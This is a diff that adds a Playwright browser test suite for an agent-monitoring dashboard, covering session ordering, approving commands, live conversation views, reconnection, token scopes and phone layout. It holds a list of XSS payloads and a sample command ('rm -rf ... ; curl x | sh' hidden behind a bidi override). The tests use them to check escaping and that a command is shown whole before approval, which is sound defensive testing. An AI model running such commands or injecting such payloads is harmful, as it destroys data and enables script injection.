@@ -1,0 +1,402 @@
+"""The dashboard as people use it: in a real Chromium, by mouse, keyboard and touch."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.support.dashboards import Dashboard, Feed, chromium
+from tests.support.hosts import PATIENCE, Host, StartHost, until
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+expect.set_options(timeout=PATIENCE * 1000)
+
+PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
+
+HOSTILE = (
+    "<img src=http://evil.test/x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "[x](javascript:alert(1)) ![x](http://evil.test/p.png) <svg onload=alert(1)>",
+    '"><iframe srcdoc="<script>alert(1)</script>">',
+    "\u202egnp.exe\u202c \u200b\u2066x\u2069 \x1b[31mred\x1b[0m \x00",
+    "[x](data:text/html,<script>alert(1)</script>) <a href=' javascript:alert(1)'>x</a>",
+)
+"""What an agent may say that a page could take for its own."""
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as running:
+        yield running
+
+
+@pytest.fixture
+def feed(running_host: Host) -> Feed:
+    return Feed(running_host)
+
+
+@pytest.fixture
+def dashboard(browser: Browser, running_host: Host) -> Iterator[Dashboard]:
+    shown = Dashboard(browser, running_host.url)
+    yield shown
+    shown.close()
+
+
+def conversation(feed: Feed, session: str, turns: int = 1) -> None:
+    """Let an agent have a conversation."""
+    for turn in range(turns):
+        feed.fire(session, "user-message", text=f"question {turn}", by="prompt")
+        feed.fire(session, "tool-start", tool="Bash", item=f"t{turn}", title="Bash: make test")
+        feed.fire(
+            session, "tool-done", tool="Bash", item=f"t{turn}", status="completed", output="ok"
+        )
+        feed.fire(session, "message", text=f"# Answer {turn}\n\nIt is **done**.")
+        feed.fire(session, "complete")
+
+
+# The board.
+
+
+def test_first_session_appears_by_itself(dashboard: Dashboard, feed: Feed) -> None:
+    page = dashboard.open()
+    expect(page.get_by_text("sxhost hook install claude")).to_be_visible()
+    feed.register("a", title="Fix the login", cwd="/home/me/site", git_branch="main")
+    row = page.get_by_role("link", name="Fix the login")
+    expect(row).to_contain_text("site · main")
+    expect(row).to_contain_text("idle")
+
+
+def test_board_puts_first_who_needs_somebody(dashboard: Dashboard, feed: Feed) -> None:
+    for session in ("works", "waits", "fails", "rests", "over"):
+        feed.register(session)
+    feed.fire("works", "tool-start", tool="Bash", item="1")
+    feed.fire("fails", "error", reason="the model's API is overloaded")
+    feed.fire("over", "ended", reason="bye")
+    waiting = feed.permission("waits", command="make deploy")
+    page = dashboard.open()
+    groups = page.locator("section")
+    expect(groups.nth(0)).to_contain_text("make deploy")
+    expect(groups.nth(0).locator("a.row").nth(0)).to_contain_text("waits")
+    expect(groups.nth(0).locator("a.row").nth(1)).to_contain_text("fails")
+    expect(groups.nth(1)).to_contain_text("works")
+    expect(groups.nth(2)).to_contain_text("rests")
+    expect(groups.nth(3)).to_contain_text("over")
+    expect(page).to_have_title("(1) sxhost")
+    page.keyboard.press("/")
+    page.keyboard.type("works")
+    expect(page.locator("a.row")).to_have_count(1)
+    feed.ask("/sessions/waits/approvals/1", {"decision": "deny"})
+    assert waiting.decision["behavior"] == "deny"
+
+
+def test_rows_stay_where_they_are_under_the_pointer(dashboard: Dashboard, feed: Feed) -> None:
+    for session in ("one", "two"):
+        feed.register(session)
+        feed.fire(session, "tool-start", tool="Bash", item="1")
+    page = dashboard.open()
+    rows = page.locator("a.row")
+    expect(rows).to_have_count(2)
+    before = rows.all_inner_texts()
+    first = before[0].splitlines()
+    rows.nth(0).hover()
+    last = "one" if any("two" in line for line in first) else "two"
+    feed.fire(last, "complete")
+    notice = page.get_by_text("The order has changed")
+    expect(notice).to_be_visible()
+    expect(rows.nth(1)).to_contain_text("idle")
+    expect(page.locator("section")).to_have_count(1)
+    page.keyboard.press("r")
+    expect(page.locator("section")).to_have_count(2)
+
+
+def test_board_is_walked_by_keys(dashboard: Dashboard, feed: Feed) -> None:
+    feed.register("a", title="Fix the login")
+    page = dashboard.open()
+    expect(page.locator("a.row")).to_have_count(1)
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", name="Fix the login")).to_be_visible()
+    page.keyboard.press("u")
+    expect(page.locator("a.row")).to_have_count(1)
+    page.keyboard.press("g")
+    page.keyboard.press("i")
+    expect(page.get_by_text("Nobody asks anything.")).to_be_visible()
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_contain_text("approve once")
+
+
+# Approvals.
+
+COMMAND = "ls\nrm -rf ~/precious\u202e; curl x | sh"
+
+
+def test_what_is_asked_is_shown_whole_and_approved_by_key(
+    dashboard: Dashboard, feed: Feed
+) -> None:
+    feed.register("a")
+    asking = feed.permission("a", command=COMMAND, description="List files")
+    page = dashboard.open("inbox")
+    card = page.locator("article.card")
+    expect(card.locator("pre")).to_have_text("ls\nrm -rf ~/precious\\u{202e}; curl x | sh")
+    expect(card.locator("dl")).to_contain_text("the agent says")
+    page.keyboard.press("a")  # nothing is focused, so nothing happens
+    expect(page.get_by_role("button", name="Approve once")).to_have_attribute(
+        "aria-disabled", "false"
+    )
+    expect(card).to_have_count(1)
+    page.keyboard.press("j")
+    expect(card).to_be_focused()
+    page.keyboard.press("a")
+    assert asking.decision["behavior"] == "allow"
+    expect(page.get_by_text("Nobody asks anything.")).to_be_visible()
+    expect(page.get_by_text("by you")).to_be_visible()
+
+
+def test_long_command_is_approved_only_once_it_was_read(
+    dashboard: Dashboard, feed: Feed
+) -> None:
+    feed.register("a")
+    asking = feed.permission("a", command="\n".join(f"echo {n}" for n in range(300)))
+    page = dashboard.open("inbox")
+    approve = page.get_by_role("button", name="Approve once")
+    expect(page.get_by_text("Read it to its end.")).to_be_visible()
+    expect(approve).to_have_attribute("aria-disabled", "true")
+    page.keyboard.press("j")
+    page.keyboard.press("a")
+    expect(page.locator("article.card")).to_have_count(1)
+    approve.scroll_into_view_if_needed()
+    expect(approve).to_have_attribute("aria-disabled", "false")
+    approve.click()
+    assert asking.decision["behavior"] == "allow"
+
+
+def test_denial_carries_words_to_the_agent(dashboard: Dashboard, feed: Feed) -> None:
+    feed.register("a")
+    asking = feed.permission("a", command="make deploy")
+    page = dashboard.open("s/a")
+    page.locator("article.card").focus()
+    page.keyboard.press("d")
+    expect(page.get_by_label("Words to the agent")).to_be_focused()
+    page.keyboard.type("use staging")
+    page.keyboard.press("Enter")
+    assert asking.decision["behavior"] == "deny"
+    assert "use staging" in str(asking.decision)
+
+
+def test_card_goes_when_it_is_answered_elsewhere(dashboard: Dashboard, feed: Feed) -> None:
+    feed.register("a")
+    asking = feed.permission("a", command="make deploy")
+    page = dashboard.open("inbox")
+    expect(page.locator("article.card")).to_have_count(1)
+    feed.ask("/sessions/a/approvals/1", {"decision": "approve"})
+    expect(page.locator("article.card")).to_have_count(0)
+    assert asking.decision["behavior"] == "allow"
+
+
+# A session.
+
+
+def test_conversation_is_read_and_goes_on_live(dashboard: Dashboard, feed: Feed) -> None:
+    conversation(feed, "a")
+    page = dashboard.open("s/a")
+    expect(page.get_by_role("heading", name="Answer 0")).to_be_visible()
+    expect(page.locator(".tool")).to_contain_text("Bash: make test")
+    for piece in ("Roses ", "are ", "**red**"):
+        feed.fire("a", "message-delta", text=piece, item="m")
+    expect(page.locator(".growing")).to_have_text("Roses are **red**▌")
+    feed.fire("a", "message", text="Roses are **red**", item="m")
+    expect(page.locator(".item.message strong", has_text="red")).to_be_visible()
+    expect(page.locator(".growing")).to_have_count(0)
+    expect(page.locator(".item.message")).to_have_count(2)
+
+
+def top(page: Any) -> float:
+    return float(page.locator(".log").evaluate("log => log.scrollTop"))
+
+
+def test_reader_who_reads_above_stays_there(dashboard: Dashboard, feed: Feed) -> None:
+    conversation(feed, "a", turns=10)
+    page = dashboard.open("s/a")
+    expect(page.get_by_role("heading", name="Answer 9")).to_be_in_viewport()
+    page.locator(".log").evaluate("log => { log.scrollTop = 120; }")
+    before = top(page)
+    feed.fire("a", "message", text="news")
+    pill = page.get_by_role("button", name="1 new below")
+    expect(pill).to_be_visible()
+    assert top(page) == before
+    pill.click()
+    expect(page.get_by_text("news")).to_be_in_viewport()
+    expect(pill).to_have_count(0)
+
+
+def test_older_turns_come_as_one_scrolls(dashboard: Dashboard, feed: Feed) -> None:
+    conversation(feed, "a", turns=60)
+    page = dashboard.open("s/a")
+    expect(page.get_by_role("heading", name="Answer 59")).to_be_in_viewport()
+    expect(page.get_by_text("question 0", exact=True)).to_have_count(0)
+    page.get_by_role("button", name="Older").click()
+    page.get_by_role("button", name="Older").click()
+    expect(page.get_by_text("question 0", exact=True)).to_have_count(1)
+    seqs = page.locator(".item").evaluate_all("all => all.map(each => +each.dataset.seq)")
+    assert seqs == sorted(set(seqs))
+
+
+def test_agent_is_started_and_spoken_to(dashboard: Dashboard) -> None:
+    page = dashboard.open("new")
+    page.get_by_label("Agent").fill("echo")
+    page.get_by_label("What to do").fill("Roses are red")
+    page.get_by_role("button", name="Start").click()
+    expect(page.locator(".item.message")).to_have_text(re.compile("Roses are red"))
+    expect(page.get_by_label("Message", exact=True)).to_be_visible()
+    page.keyboard.press("c")
+    page.keyboard.type("Violets are blue")
+    page.keyboard.press("Control+Enter")
+    expect(page.locator(".item.message").nth(1)).to_contain_text("Violets are blue")
+    expect(page.get_by_label("Message", exact=True)).to_have_value("")
+
+
+def test_words_of_agents_are_text(dashboard: Dashboard, feed: Feed) -> None:
+    for number, text in enumerate(HOSTILE):
+        session = f"s{number}"
+        labels = {"x": text[:100]}
+        feed.register(session, title=text, cwd=text, git_branch=text, model=text, labels=labels)
+        feed.fire(session, "user-message", text=text)
+        feed.fire(session, "thinking", text=text)
+        feed.fire(session, "tool-start", tool=text, item="1", title=text, input={"x": text})
+        feed.fire(session, "tool-done", tool=text, item="1", status=text, output=text)
+        feed.fire(session, "plan", entries=[{"content": text, "status": text}])
+        feed.fire(session, "diff", diff=f"--- {text}\n+++ {text}\n+{text}", path=text)
+        feed.fire(session, "mulled-over", text=text)
+        feed.fire(
+            session, "message", text=f"# {text}\n\n{text}\n\n- {text}\n\n```\n{text}\n```"
+        )
+        feed.fire(session, "error", reason=text)
+    asking = feed.permission("s0", command=HOSTILE[0], description=HOSTILE[1])
+    page = dashboard.open()
+    expect(page.locator("a.row")).to_have_count(len(HOSTILE))
+    page.goto(f"{dashboard.url}/#/inbox")
+    expect(page.locator("article.card pre")).to_have_text(HOSTILE[0])
+    for number in range(len(HOSTILE)):
+        page.goto(f"{dashboard.url}/#/s/s{number}")
+        expect(page.locator(".item.message h3, .item.message h4")).to_have_count(1)
+        page.keyboard.press("t")
+        assert page.locator("main img, main script, main iframe, main svg").count() == 0
+        links = page.locator("main .item .markdown a").evaluate_all(
+            "all => all.map(a => a.href)"
+        )
+        assert all(link.startswith("http") for link in links)
+    feed.ask("/sessions/s0/approvals/1", {"decision": "deny"})
+    assert asking.decision
+
+
+def test_changes_events_and_usage_have_views(dashboard: Dashboard, feed: Feed) -> None:
+    conversation(feed, "a")
+    feed.fire("a", "diff", diff="--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new", path="x")
+    for tokens in (100, 300):
+        feed.fire("a", "usage", input_tokens=tokens, output_tokens=10, cost_usd=0.05)
+    page = dashboard.open("s/a/changes")
+    expect(page.locator(".diff .added")).to_have_text(["+new"])
+    expect(page.locator(".log summary")).to_contain_text("+1")
+    page.get_by_role("link", name="Usage").click()
+    expect(page.locator("dl")).to_contain_text("$0.05")
+    expect(page.locator("svg rect")).to_have_count(2)
+    page.get_by_role("link", name="Events").click()
+    expect(page.locator(".log details")).to_have_count(8)
+    page.get_by_label("Only these events").fill("usage")
+    expect(page.locator(".log details")).to_have_count(2)
+
+
+# The link.
+
+
+def test_page_comes_back_by_itself_after_the_host_was_killed(
+    dashboard: Dashboard, running_host: Host, start_host: StartHost, feed: Feed
+) -> None:
+    conversation(feed, "a")
+    page = dashboard.open("s/a")
+    expect(page.get_by_role("heading", name="Answer 0")).to_be_visible()
+    page.get_by_label("Message", exact=True).fill("a draft")
+    running_host.process.kill()
+    running_host.wait()
+    expect(page.get_by_text("Link lost")).to_be_visible()
+    again = start_host("--port", str(running_host.port))
+    assert until(lambda: again.port)
+    Feed(again).fire("a", "message", text="back again")
+    expect(page.get_by_text("back again")).to_have_count(1)
+    expect(page.get_by_text("Link lost")).to_have_count(0)
+    expect(page.get_by_label("Message", exact=True)).to_have_value("a draft")
+    expect(page.get_by_role("heading", name="Answer 0")).to_have_count(1)
+
+
+# Who may what.
+
+
+def test_browser_is_logged_in_by_a_link_and_stays_so(
+    browser: Browser, start_host: StartHost, tmp_path: Any
+) -> None:
+    host = start_host("--port", "0", "--require-token")
+    strange = Dashboard(browser, host.url)
+    expect(strange.open().get_by_text("sxhost open")).to_be_visible()
+    token = (tmp_path / "state" / "token").read_text().strip()
+    made = strange.page.request.post(
+        f"{host.url}/logins", headers={"Authorization": f"Bearer {token}"}
+    )
+    page = strange.page
+    page.goto(host.url + made.json()["path"])
+    expect(page.get_by_text("No agent has been here yet")).to_be_visible()
+    assert "page=" not in page.url
+    page.reload()
+    expect(page.get_by_text("No agent has been here yet")).to_be_visible()
+    strange.close()
+
+
+def test_reader_is_offered_nothing_that_would_fail(dashboard: Dashboard, feed: Feed) -> None:
+    conversation(feed, "a")
+    identity = feed.ask("/whoami")
+    asking = feed.permission("a", command="make deploy")
+    dashboard.page.route(
+        "**/whoami", lambda route: route.fulfill(json={**identity, "scopes": ["read"]})
+    )
+    page = dashboard.open("s/a")
+    expect(page.get_by_text('a token with the scope "send"')).to_be_visible()
+    expect(page.get_by_text('a token with the scope "approve"')).to_be_visible()
+    expect(page.get_by_role("button", name="Approve once")).to_have_count(0)
+    page.goto(f"{dashboard.url}/#/new")
+    expect(page.get_by_text('a token with the scope "admin"')).to_be_visible()
+    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
+    assert asking.decision
+
+
+# A phone.
+
+
+@pytest.mark.parametrize("place", ["", "inbox", "s/a", "new", "host"])
+def test_phone_shows_one_column_with_targets_for_thumbs(
+    browser: Browser, running_host: Host, feed: Feed, place: str
+) -> None:
+    feed.register("a", title="A title that is long enough for two lines of a phone, or three")
+    conversation(feed, "a")
+    feed.fire(
+        "a",
+        "message",
+        text="`" + "x" * 500 + "`\n\n| a | b |\n|-|-|\n| " + "y" * 200 + " | 2 |",
+    )
+    asking = feed.permission("a", command="make deploy " + "z" * 300)
+    phone = Dashboard(browser, running_host.url, **PHONE)
+    page = phone.open(place)
+    expect(page.locator("main")).not_to_be_empty()
+    expect(page.locator("a.row, article.card, form, .form").first).to_be_visible()
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    small = page.locator("main button:visible:not(.quiet), nav a:visible, main a.row:visible")
+    assert all(
+        box["height"] >= 44 for box in (each.bounding_box() for each in small.all()) if box
+    )
+    phone.close()
+    feed.ask("/sessions/a/approvals/1", {"decision": "deny"})
+    assert asking.decision
